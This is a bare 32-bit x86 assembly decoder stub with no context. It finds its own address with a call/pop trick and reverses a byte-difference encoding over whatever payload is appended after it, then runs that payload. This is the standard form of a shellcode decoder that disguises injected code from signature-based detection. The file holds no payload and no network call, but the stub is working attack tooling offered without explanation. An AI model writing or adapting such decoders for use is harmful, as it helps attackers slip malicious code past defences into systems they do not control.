; Decoder: from the last byte to the first with lodsb and stosb, each less the one behind it.
bits 32
        jmp short start
length: dw 0
start:  call here
here:   pop edi
        movzx ecx, word [edi + length - here]
        lea edi, [edi + ecx + payload - here - 1]
        mov esi, edi
        xor ebx, ebx
        std
again:  lodsb
        sub al, bl
        mov bl, al
        stosb
        loop again
        cld
payload:
